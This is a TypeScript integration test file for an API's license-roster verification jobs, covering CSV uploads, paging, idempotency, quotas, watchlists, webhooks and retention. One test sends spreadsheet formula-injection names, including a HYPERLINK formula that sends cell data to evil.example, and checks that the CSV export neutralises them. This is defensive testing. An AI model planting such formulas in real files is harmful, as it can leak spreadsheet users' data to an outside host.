import { parse } from 'csv-parse/sync';
import request from 'supertest';
import type { App } from 'supertest/types.js';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createApp } from '../../src/app.js';
import { clockOf } from '../../src/domain/clock.js';
import type { GraphAdapters } from '../../src/graph/adapters-port.js';
import { z } from '../../src/http/zod.js';
import { JOB_CSV_COLUMNS } from '../../src/modules/jobs/jobs-csv.js';
import { JobEvent, JobPage, JobResponse, JobResultPage } from '../../src/modules/jobs/jobs.schemas.js';
import { VerificationRecord } from '../../src/modules/verifications/verifications.schemas.js';
import { Endpoint, EndpointWithSecret, DeliveryPage } from '../../src/modules/webhooks/webhooks.schemas.js';
import { fixture, testGraph, testServices, testStore } from '../helpers/graph.js';
import { body, errorDetail, validationErrors } from '../helpers/http.js';
import { webhookReceiver } from '../helpers/webhook-receiver.js';

const waitFor = <T>(fn: () => T | Promise<T>) => vi.waitFor(fn, { timeout: 20_000, interval: 25 });
const VerificationResponse = z.object({ data: VerificationRecord });

/** The small fixture's licences: found ones with their verdicts, and misses. */
const FOUND = [
  ['TX', '100001-B', 'clear'],
  ['TX', '200001-B', 'clear'],
  ['TX', '763827-SA', 'consider'],
  ['TX', '763828-SA', 'consider'],
] as const;

describe('roster verification jobs', () => {
  const t = {} as { graph: GraphAdapters; side: Awaited<ReturnType<typeof testStore>>; deps: ReturnType<typeof testServices>; app: App; key: string; auth: Record<string, string> };
  beforeAll(async () => {
    t.graph = (await testGraph(fixture('small'))).graph;
    t.side = await testStore({ WEBHOOK_ALLOW_PRIVATE_URLS: true, WEBHOOK_RETRY_SCHEDULE: [50] });
    t.deps = testServices(t.graph, t.side, { JOB_CONCURRENCY: 2 });
    t.app = createApp(t.deps) as unknown as App;
    t.key = (await t.side.accounts.createAccount({ email: 'jobs@example.com', plan: 'growth' })).key.key;
    t.auth = { Authorization: `Bearer ${t.key}` };
    t.side.dispatcher.start();
    await t.deps.jobRunner.start();
  });
  afterAll(async () => {
    await t.deps?.jobRunner.stop();
    await t.side?.dispatcher.stop();
    await t.graph?.close();
    await t.side?.store.close();
  });
  const post = (auth = t.auth) => request(t.app).post('/api/v1/verification-jobs').set(auth);
  const get = (path: string, auth = t.auth) => request(t.app).get(path).set(auth);
  const finished = (id: string, auth = t.auth) =>
    waitFor(async () => {
      const job = body(await get(`/api/v1/verification-jobs/${id}`, auth), JobResponse).data;
      expect(['completed', 'failed', 'cancelled']).toContain(job.status);
      return job;
    });
  const newAccount = async (email: string, plan: 'free' | 'starter' | 'growth' | 'enterprise') => ({ Authorization: `Bearer ${(await t.side.accounts.createAccount({ email, plan })).key.key}` });

  it('when a CSV roster in a spreadsheet\'s spellings is uploaded then the job runs and its results come in roster order with their verification records', async () => {
    const csv = ['Agent Name,License #,ST,Office', 'Dana Quinn,200001-B,tx,Austin', 'Robert Quinn,200001-B,TX,Austin', ',100001-B,TX,', 'Nobody,NOPE-1,TX,'].join('\r\n');
    const res = await post().set('Content-Type', 'text/csv').query({ label: 'November onboarding' }).send(csv);
    const { data: queued } = body(res, JobResponse, 202);
    expect(res.headers.location).toBe(`/api/v1/verification-jobs/${queued.id}`);
    expect(queued).toMatchObject({ status: 'queued', format: 'csv', label: 'November onboarding', rows_total: 4, watch: false, expires_at: null });
    const job = await finished(queued.id);
    expect(job).toMatchObject({ status: 'completed', rows_done: 4, counts: { clear: 2, consider: 1, not_found: 1 }, units_charged: 1, error: null, watchlist: null });
    expect(Date.parse(job.expires_at!) - Date.parse(job.finished_at!)).toBe(30 * 86_400_000);

    const page = body(await get(`${job.links.results}?per_page=3`), JobResultPage);
    expect(page.data.map((r) => [r.row, r.state, r.license_number, r.verdict])).toEqual([
      [1, 'tx', '200001-B', 'clear'],
      [2, 'TX', '200001-B', 'consider'],
      [3, 'TX', '100001-B', 'clear'],
    ]);
    expect(page.data[0]).toMatchObject({ verified: true, name_match: { result: 'exact' }, licensee: { full_name: 'DANA QUINN' }, watchlist: null });
    expect(page.data[1]).toMatchObject({ reasons: ['name_mismatch'], name_match: { result: 'mismatch' } });
    expect(page.data[2].name_match).toBeNull();
    // The name each row sent, beside the name on file (the CSV's empty name cell is no name).
    expect(page.data.map((r) => r.name_sent)).toEqual([{ name: 'Dana Quinn' }, { name: 'Robert Quinn' }, null]);
    expect(page.meta).toMatchObject({ per_page: 3, total: 4, job_status: 'completed' });
    const rest = body(await get(`${job.links.results}?per_page=3&cursor=${page.meta.next_cursor}`), JobResultPage);
    expect(rest.data.map((r) => [r.row, r.verdict, r.verified, r.name_sent])).toEqual([[4, 'not_found', false, { name: 'Nobody' }]]);
    expect(rest.meta.next_cursor).toBeNull();
    // Cursors as clients hold them, written out: after row 3 (base64url of `r3`), and the jobs created
    // before 2999-12-31T00:00:00.000Z|ffffffff-ffff-ffff-ffff-ffffffffffff (every one).
    expect(page.meta.next_cursor).toBe('cjM');
    expect(body(await get(`${job.links.results}?cursor=cjM`), JobResultPage).data.map((r) => r.row)).toEqual([4]);
    const everyJob = body(await get('/api/v1/verification-jobs?per_page=100'), JobPage).data;
    const held = 'Mjk5OS0xMi0zMVQwMDowMDowMC4wMDBafGZmZmZmZmZmLWZmZmYtZmZmZi1mZmZmLWZmZmZmZmZmZmZmZg';
    expect(body(await get(`/api/v1/verification-jobs?per_page=100&cursor=${held}`), JobPage).data).toEqual(everyJob);

    // Each row is an verification record, as a batch item is.
    const record = body(await get(`/api/v1/verifications/${page.data[1].verification_id}`), VerificationResponse).data;
    expect(record).toMatchObject({ operation: 'job', index: 1, state: 'TX', license_number: '200001-B', verdict: 'consider', name_sent: { name: 'Robert Quinn' }, http_status: 200 });

    const consider = body(await get(`${job.links.results}?verdict=consider,not_found`), JobResultPage);
    expect(consider.data.map((r) => r.row)).toEqual([2, 4]);
    expect(consider.meta.total).toBe(2);

    const file = await get(job.links.results_csv);
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toMatch(/^text\/csv/);
    const lines = parse(file.text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(lines[0])).toEqual([...JOB_CSV_COLUMNS]);
    expect(lines.map((l) => [l.row, l.name_sent, l.verdict, l.full_name, l.license_status, l.reasons])).toEqual([
      ['1', 'Dana Quinn', 'clear', 'DANA QUINN', page.data[0].licensee!.status, ''],
      ['2', 'Robert Quinn', 'consider', 'DANA QUINN', page.data[1].licensee!.status, 'name_mismatch'],
      ['3', '', 'clear', 'ACME REALTY LLC', page.data[2].licensee!.status, ''],
      ['4', 'Nobody', 'not_found', '', '', ''],
    ]);
    expect(lines[0].license_status).toMatch(/^\S/);

    const list = body(await get('/api/v1/verification-jobs?per_page=100'), JobPage);
    expect(list.data.map((j) => j.id)).toContain(job.id);
  });

  it('when rows send names starting with =, +, - or @ then the results carry each name as sent, and the CSV prefixes those cells with \' so a spreadsheet does not run them', async () => {
    const risky = ['=HYPERLINK("https://evil.example/?q="&A1,"Dana")', '+1 555 0100', '-2+3', '@SUM(A1:A9)'];
    const rows = [
      ...risky.map((name) => ({ state: 'TX', license_number: '200001-B', name })),
      { state: 'TX', license_number: '200001-B', first_name: '=cmd', last_name: 'Quinn' },
      { state: 'TX', license_number: '200001-B', first_name: 'Dana', last_name: 'Quinn' },
      { state: 'TX', license_number: '100001-B' },
      // A second chunk: rows 101 to 105.
      ...Array.from({ length: 98 }, (_, i) => ({ state: 'TX', license_number: '100001-B', name: `Row ${i + 8}` })),
    ];
    const job = await finished(body(await post().send({ rows }), JobResponse, 202).data.id);
    expect(job).toMatchObject({ status: 'completed', rows_done: 105 });
    const results = async () => {
      const first = body(await get(`${job.links.results}?per_page=100`), JobResultPage);
      return [...first.data, ...body(await get(`${job.links.results}?per_page=100&cursor=${first.meta.next_cursor}`), JobResultPage).data];
    };
    const json = await results();
    // The JSON answers each name exactly as sent: nothing to escape there.
    expect(json.slice(0, 7).map((r) => r.name_sent)).toEqual([
      ...risky.map((name) => ({ name })),
      { first_name: '=cmd', last_name: 'Quinn' },
      { first_name: 'Dana', last_name: 'Quinn' },
      null,
    ]);
    expect(json.map((r) => r.name_sent)).toEqual(rows.map(({ state, license_number, ...name }) => (Object.keys(name).length ? name : null)));
    // The name sent is kept with each result.
    const stored = await t.side.store.query<{ sent: unknown }>("SELECT result->'name_sent' AS sent FROM verification_job_results WHERE job_id = $1 ORDER BY row", [job.id]);
    expect(stored.map((r) => r.sent)).toEqual(json.map((r) => r.name_sent));

    const download = async () => {
      const file = await get(job.links.results_csv);
      expect(file.status).toBe(200);
      return parse(file.text, { columns: true }) as Record<string, string>[];
    };
    const lines = await download();
    expect(lines.slice(0, 7).map((l) => l.name_sent)).toEqual([...risky.map((name) => `'${name}`), "'=cmd Quinn", 'Dana Quinn', '']);
    expect(lines.slice(0, 7).map((l) => l.full_name)).toEqual([...risky.map(() => 'DANA QUINN'), 'DANA QUINN', 'DANA QUINN', 'ACME REALTY LLC']);
    expect(lines.at(-1)).toMatchObject({ row: '105', name_sent: 'Row 105' });

    // Results stored before the name was kept with them read it from the roster's chunk: the same answers.
    await t.side.store.query("UPDATE verification_job_results SET result = result - 'name_sent' WHERE job_id = $1", [job.id]);
    expect((await t.side.store.query<{ n: number }>("SELECT count(*)::int AS n FROM verification_job_results WHERE job_id = $1 AND result ? 'name_sent'", [job.id]))[0].n).toBe(0);
    expect(await results()).toEqual(json);
    expect(await download()).toEqual(lines);
  });

  it('when a roster has rows at fault then the whole file is refused with the first problems by line and their count, and no job is made', async () => {
    const before = body(await get('/api/v1/verification-jobs?per_page=100'), JobPage).data.length;
    const csv = ['state,license_number', 'TX,100001-B', 'ZZ,1', 'TX,', ...Array.from({ length: 150 }, () => 'T,1')].join('\n');
    const detail = validationErrors(await post().set('Content-Type', 'text/csv').send(csv));
    expect(detail[0]).toMatchObject({ loc: ['body'], type: 'roster_invalid', ctx: { rows_at_fault: 152, problems_listed: 100 } });
    expect(detail).toHaveLength(101);
    expect(detail[1]).toMatchObject({ loc: ['body', 'line', 3, 'state'], type: 'enum' });
    expect(detail[2].loc).toEqual(['body', 'line', 4, 'license_number']);
    const json = validationErrors(await post().send({ rows: [{ state: 'TX', license_number: '100001-B' }, { state: 'TX' }] }));
    expect(json[1]).toMatchObject({ loc: ['body', 'rows', 1, 'license_number'], type: 'missing' });
    expect(validationErrors(await post().set('Content-Type', 'text/csv').send('number,where\n1,TX'))[0]).toMatchObject({ loc: ['body', 'line', 1], type: 'missing' });
    expect(validationErrors(await post().set('Content-Type', 'text/csv').send('state,license_number\n'))[0].type).toBe('too_short');
    expect(validationErrors(await post().set('Content-Type', 'text/csv').send('state,license_number\n"TX,1\n'))[0]).toMatchObject({ loc: ['body', 'line', 2], type: 'csv_invalid' });
    expect(validationErrors(await post().send({ rows: [] }))[0].loc).toEqual(['body', 'rows']);
    expect(validationErrors(await post().set('Content-Type', 'text/plain').send('state,license_number\nTX,1'))[0].type).toBe('content_type_invalid');
    expect(body(await get('/api/v1/verification-jobs?per_page=100'), JobPage).data).toHaveLength(before);
  });

  it('when an upload is retried with its Idempotency-Key then it is the same job, and the key with another roster is a 422', async () => {
    const rows = [{ state: 'TX', license_number: '100001-B' }];
    const first = body(await post().set('Idempotency-Key', 'roster-1').send({ rows }), JobResponse, 202).data;
    const again = await post().set('Idempotency-Key', 'roster-1').send({ rows });
    expect(body(again, JobResponse, 202).data.id).toBe(first.id);
    expect(again.headers['idempotent-replayed']).toBe('true');
    const other = validationErrors(await post().set('Idempotency-Key', 'roster-1').send({ rows, watch: true }));
    expect(other[0]).toMatchObject({ loc: ['header', 'Idempotency-Key'], type: 'idempotency_key_reused' });
    expect(body(await post().set('Idempotency-Key', 'roster-2').send({ rows }), JobResponse, 202).data.id).not.toBe(first.id);
    await finished(first.id);
    // Another account's key of the same name is its own.
    const mine = await newAccount('idem-other@example.com', 'starter');
    expect(body(await post(mine).set('Idempotency-Key', 'roster-1').send({ rows }), JobResponse, 202).data.id).not.toBe(first.id);
    expect(validationErrors(await post().set('Idempotency-Key', 'é'.repeat(3)).send({ rows }))[0].loc).toEqual(['header', 'Idempotency-Key']);
    // The same key while the first upload is still being stored: 409, as Stripe answers.
    await t.side.store.query("UPDATE verification_jobs SET status = 'uploading' WHERE id = $1", [first.id]);
    expect(errorDetail(await post().set('Idempotency-Key', 'roster-1').send({ rows }), 409)).toMatch(/still being stored/);
    expect(errorDetail(await get(`/api/v1/verification-jobs/${first.id}`), 404)).toMatch(/no verification job/);
    await t.side.store.query("UPDATE verification_jobs SET status = 'completed' WHERE id = $1", [first.id]);
  });

  it('when the account is on the free plan then an upload is 402, and reading another account\'s job is 404', async () => {
    const free = await newAccount('jobs-free@example.com', 'free');
    expect(errorDetail(await post(free).send({ rows: [{ state: 'TX', license_number: '100001-B' }] }), 402)).toMatch(/free plan does not include/);
    const job = body(await post().send({ rows: [{ state: 'TX', license_number: '100001-B' }] }), JobResponse, 202).data;
    expect(errorDetail(await get(`/api/v1/verification-jobs/${job.id}`, free), 404)).toMatch(/no verification job/);
    expect(errorDetail(await get(`/api/v1/verification-jobs/${job.id}/results`, free), 404)).toMatch(/no verification job/);
    expect(validationErrors(await get('/api/v1/verification-jobs/nope'))[0].loc).toEqual(['path', 'id']);
    expect(validationErrors(await get(`/api/v1/verification-jobs/${job.id}/results?cursor=abc`))[0].loc).toEqual(['query', 'cursor']);
    await finished(job.id);
  });

  it('when a job runs then it costs one unit per 100 rows started, and running out of quota stops it with its done rows kept', async () => {
    const auth = await newAccount('jobs-meter@example.com', 'starter');
    const rows = Array.from({ length: 250 }, (_, i) => ({ state: 'TX', license_number: FOUND[i % FOUND.length][1] }));
    const job = await finished(body(await post(auth).send({ rows }), JobResponse, 202).data.id, auth);
    expect(job).toMatchObject({ status: 'completed', rows_done: 250, units_charged: 3 });
    await t.side.meter.flush();
    const usage = (await get('/api/v1/account/usage', auth)).body as { used: number; by_endpoint: Record<string, number> };
    expect(usage.by_endpoint).toMatchObject({ verificationJob: 3 });
    // Reading the job and its results is not metered.
    await get(job.links.results, auth);
    await t.side.meter.flush();
    expect(((await get('/api/v1/account/usage', auth)).body as { used: number }).used).toBe(usage.used);

    // A starter account with 2 units left: the third chunk finds the quota spent.
    const low = await newAccount('jobs-low@example.com', 'starter');
    const account = (await t.side.accounts.authenticate(low.Authorization)).account;
    for (let i = 0; i < 4998; i++) await t.side.meter.settle(await t.side.meter.admit({ account, keyId: 'k' }, 'verifyLicense'), 200);
    await t.side.meter.flush();
    const stopped = await finished(body(await post(low).send({ rows }), JobResponse, 202).data.id, low);
    expect(stopped).toMatchObject({ status: 'failed', rows_done: 200, units_charged: 2, error: { code: 'quota_exhausted' } });
    expect(stopped.error!.message).toMatch(/stopped after 200 rows: monthly quota of 5000 lookups is spent/);
    expect(body(await get(`${stopped.links.results}?per_page=100`, low), JobResultPage).meta.total).toBe(200);
  });

  it('when a job asks to watch then its found rows go on the watchlist in roster order within the plan\'s limit and the rest are listed', async () => {
    const auth = await newAccount('jobs-watch@example.com', 'starter');
    const account = (await t.side.accounts.authenticate(auth.Authorization)).account;
    // Starter watches at most 1,000 licences: 998 are watched already.
    await t.side.watchlist.add(account, Array.from({ length: 997 }, (_, i) => ({ state: 'CA', license_number: `W${i}` })).concat([{ state: 'TX', license_number: '763827-SA' }]));
    const rows = [
      { state: 'TX', license_number: 'NOPE-9' },
      { state: 'TX', license_number: '763827-SA' },
      { state: 'TX', license_number: '200001-B' },
      { state: 'TX', license_number: '100001-B' },
      { state: 'TX', license_number: '200001-B' },
      { state: 'TX', license_number: '763828-SA' },
    ];
    const job = await finished(body(await post(auth).send({ rows, watch: true }), JobResponse, 202).data.id, auth);
    expect(job).toMatchObject({ status: 'completed', watch: true, watchlist: { added: 2, already_watched: 1, over_limit: 1, limit: 1000 } });
    const results = body(await get(job.links.results, auth), JobResultPage).data;
    expect(results.map((r) => [r.row, r.watchlist])).toEqual([[1, null], [2, 'watched'], [3, 'watched'], [4, 'watched'], [5, 'watched'], [6, 'over_limit']]);
    const over = body(await get(`${job.links.results}?watchlist=over_limit`, auth), JobResultPage);
    expect(over.data.map((r) => r.license_number)).toEqual(['763828-SA']);
    expect(over.meta.total).toBe(1);
    const watched = (await get('/api/v1/watchlist?per_page=100&page=10', auth)).body as { data: { license_number: string }[]; meta: { total: number } };
    expect(watched.meta.total).toBe(1000);
  });

  it('when a job stops then each endpoint subscribed to it gets a signed verification_job.completed delivery with the job\'s summary', async () => {
    const receiver = await webhookReceiver();
    try {
      const auth = await newAccount('jobs-hooks@example.com', 'growth');
      const hook = body(await request(t.app).post('/api/v1/webhooks').set(auth).send({ url: receiver.url('/jobs'), event_types: ['verification_job.completed'] }), EndpointWithSecret);
      expect(hook.event_types).toEqual(['verification_job.completed']);
      const changesOnly = body(await request(t.app).post('/api/v1/webhooks').set(auth).send({ url: receiver.url('/changes'), event_types: ['status_changed'] }), EndpointWithSecret);
      receiver.answer('/jobs', (n) => (n === 1 ? 500 : 200));
      const job = await finished(body(await post(auth).send({ rows: [{ state: 'TX', license_number: '100001-B' }] }), JobResponse, 202).data.id, auth);
      await waitFor(() => expect(receiver.at('/jobs')).toHaveLength(2));
      const event = JobEvent.parse(JSON.parse(receiver.at('/jobs')[1].body));
      expect(event).toMatchObject({ type: 'verification_job.completed', timestamp: job.finished_at, data: { id: job.id, status: 'completed', counts: { clear: 1 }, links: job.links } });
      expect(receiver.at('/jobs')[0].headers['webhook-id']).toBe(receiver.at('/jobs')[1].headers['webhook-id']);
      expect(receiver.at('/jobs')[1].headers['webhook-signature']).toMatch(/^v1,/);
      const log = body(await request(t.app).get(`/api/v1/webhooks/${hook.id}/deliveries`).set(auth), DeliveryPage);
      await waitFor(async () => expect(body(await request(t.app).get(`/api/v1/webhooks/${hook.id}/deliveries`).set(auth), DeliveryPage).data[0]).toMatchObject({ status: 'succeeded', attempts: 2 }));
      expect(log.data[0]).toMatchObject({ event_id: job.id, event_type: 'verification_job.completed' });
      expect(receiver.at('/changes')).toHaveLength(0);
      body(await request(t.app).get(`/api/v1/webhooks/${changesOnly.id}`).set(auth), Endpoint);
      expect(validationErrors(await request(t.app).post('/api/v1/webhooks').set(auth).send({ url: receiver.url('/x'), event_types: ['verification_job.started'] }))[0].loc).toEqual(['body', 'event_types', 0]);
    } finally {
      await receiver.close();
    }
  });

  it('when one account\'s big job is queued before another account\'s small one then the small one is not held back behind it', async () => {
    await t.deps.jobRunner.stop();
    const big = await newAccount('jobs-big@example.com', 'enterprise');
    const small = await newAccount('jobs-small@example.com', 'starter');
    try {
      const rows = (n: number) => Array.from({ length: n }, (_, i) => ({ state: 'TX', license_number: FOUND[i % FOUND.length][1] }));
      const a = body(await post(big).send({ rows: rows(5_000) }), JobResponse, 202).data;
      const b = body(await post(small).send({ rows: rows(100) }), JobResponse, 202).data;
      await t.deps.jobRunner.start();
      const done = await finished(b.id, small);
      // The small job's one chunk went to the second worker's first claim, not after the big job's fifty.
      expect(body(await get(`/api/v1/verification-jobs/${a.id}`, big), JobResponse).data.rows_done).toBeLessThan(5_000);
      expect((await finished(a.id, big)).finished_at! > done.finished_at!).toBe(true);
    } finally {
      await t.deps.jobRunner.start();
    }
  });

  it('when a job is cancelled before it finishes then it stops, and cancelling a finished job is 409', async () => {
    // Workers paused: the job waits in the queue.
    await t.deps.jobRunner.stop();
    try {
      const job = body(await post().send({ rows: [{ state: 'TX', license_number: '100001-B' }] }), JobResponse, 202).data;
      const cancelled = body(await request(t.app).delete(`/api/v1/verification-jobs/${job.id}`).set(t.auth), JobResponse).data;
      expect(cancelled).toMatchObject({ status: 'cancelled', rows_done: 0, error: { code: 'cancelled' } });
      expect(cancelled.expires_at).not.toBeNull();
      expect(errorDetail(await request(t.app).delete(`/api/v1/verification-jobs/${job.id}`).set(t.auth), 409)).toMatch(/is cancelled/);
    } finally {
      await t.deps.jobRunner.start();
    }
  });
});

describe('roster jobs on a test clock', () => {
  const ctx = {} as { graph: GraphAdapters };
  beforeAll(async () => {
    ctx.graph = (await testGraph(fixture('small'))).graph;
  });
  afterAll(async () => {
    await ctx.graph?.close();
  });
  const DAY = 86_400_000;

  /** The API over a side store of its own whose clock reads `clock.now` (jobs count their retention and keys' 24 hours by it). */
  async function apiOnClock(config: { JOB_RETENTION_DAYS?: number } = {}) {
    const clock = { now: new Date('2026-12-01T09:00:00.000Z') };
    const side = await testStore({}, undefined, clockOf(() => clock.now));
    const deps = testServices(ctx.graph, side, config);
    const app = createApp(deps) as unknown as App;
    const auth = { Authorization: `Bearer ${(await side.accounts.createAccount({ email: 'clock@example.com', plan: 'growth' })).key.key}` };
    const post = () => request(app).post('/api/v1/verification-jobs').set(auth);
    const get = (path: string) => request(app).get(path).set(auth);
    const close = async () => {
      await deps.jobRunner.stop();
      await side.store.close();
    };
    return { clock, side, deps, post, get, close };
  }

  it('when a finished job is past its retention (JOB_RETENTION_DAYS) then prune deletes it and its results, and keeps a job within it and one not finished', async () => {
    const api = await apiOnClock({ JOB_RETENTION_DAYS: 7 });
    try {
      const rows = [{ state: 'TX', license_number: '100001-B' }];
      const started = api.clock.now.getTime();
      const finished = (id: string) =>
        waitFor(async () => {
          const job = body(await api.get(`/api/v1/verification-jobs/${id}`), JobResponse).data;
          expect(job.status).toBe('completed');
          return job;
        });
      await api.deps.jobRunner.start();
      const old = await finished(body(await api.post().send({ rows }), JobResponse, 202).data.id);
      expect(old.finished_at).toBe(new Date(started).toISOString());
      expect(Date.parse(old.expires_at!) - Date.parse(old.finished_at!)).toBe(7 * DAY);
      const [{ verification_id: recordId }] = body(await api.get(old.links.results), JobResultPage).data;
      api.clock.now = new Date(started + DAY);
      const young = await finished(body(await api.post().send({ rows }), JobResponse, 202).data.id);
      expect(young.expires_at).toBe(new Date(started + 8 * DAY).toISOString());
      // With the workers stopped, a job stays queued.
      await api.deps.jobRunner.stop();
      const queued = body(await api.post().send({ rows }), JobResponse, 202).data;

      // At its expiry the old job is still there; a second later it is gone with its results.
      api.clock.now = new Date(old.expires_at!);
      expect(await api.deps.jobs.prune()).toBe(0);
      body(await api.get(`/api/v1/verification-jobs/${old.id}`), JobResponse);
      api.clock.now = new Date(Date.parse(old.expires_at!) + 1000);
      expect(await api.deps.jobs.prune()).toBe(1);
      expect(errorDetail(await api.get(`/api/v1/verification-jobs/${old.id}`), 404)).toMatch(/no verification job/);
      expect(errorDetail(await api.get(old.links.results), 404)).toMatch(/no verification job/);
      expect((await api.side.store.query('SELECT 1 FROM verification_job_results WHERE job_id = $1 UNION ALL SELECT 1 FROM verification_job_chunks WHERE job_id = $1', [old.id])).length).toBe(0);
      expect(body(await api.get(young.links.results), JobResultPage).data).toHaveLength(1);
      // The verification records of its rows are kept as long as the plan keeps records.
      expect(body(await api.get(`/api/v1/verifications/${recordId}`), VerificationResponse).data).toMatchObject({ operation: 'job', license_number: '100001-B' });

      // Past the younger job's expiry it goes too; the queued job, older than the retention, is not finished and stays.
      api.clock.now = new Date(Date.parse(young.expires_at!) + 1000);
      expect(await api.deps.jobs.prune()).toBe(1);
      expect(errorDetail(await api.get(`/api/v1/verification-jobs/${young.id}`), 404)).toMatch(/no verification job/);
      expect(body(await api.get(`/api/v1/verification-jobs/${queued.id}`), JobResponse).data.status).toBe('queued');
    } finally {
      await api.close();
    }
  });

  it('when an Idempotency-Key comes back 24 hours and a second after its upload then it makes a new job, not a replay', async () => {
    const api = await apiOnClock();
    try {
      const rows = [{ state: 'TX', license_number: '100001-B' }];
      const send = () => api.post().set('Idempotency-Key', 'nightly-roster').send({ rows });
      const started = api.clock.now.getTime();
      const first = await send();
      const a = body(first, JobResponse, 202).data;
      expect(first.headers['idempotent-replayed']).toBeUndefined();

      // 24 hours on, to the millisecond, the key still names the job.
      api.clock.now = new Date(started + DAY);
      const replay = await send();
      expect(body(replay, JobResponse, 202).data.id).toBe(a.id);
      expect(replay.headers['idempotent-replayed']).toBe('true');

      // A second later it is free: the same roster with it is a new job.
      api.clock.now = new Date(started + DAY + 1000);
      const later = await send();
      const b = body(later, JobResponse, 202).data;
      expect(b.id).not.toBe(a.id);
      expect(later.headers['idempotent-replayed']).toBeUndefined();
      expect(later.headers.location).toBe(`/api/v1/verification-jobs/${b.id}`);
      expect(b).toMatchObject({ status: 'queued', created_at: api.clock.now.toISOString() });
      // The key names the new job now; the first is still there.
      const again = await send();
      expect(body(again, JobResponse, 202).data.id).toBe(b.id);
      expect(again.headers['idempotent-replayed']).toBe('true');
      expect(body(await api.get(`/api/v1/verification-jobs/${a.id}`), JobResponse).data.id).toBe(a.id);
      expect(body(await api.get('/api/v1/verification-jobs?per_page=100'), JobPage).data.map((j) => j.id)).toEqual([b.id, a.id]);
    } finally {
      await api.close();
    }
  });
});
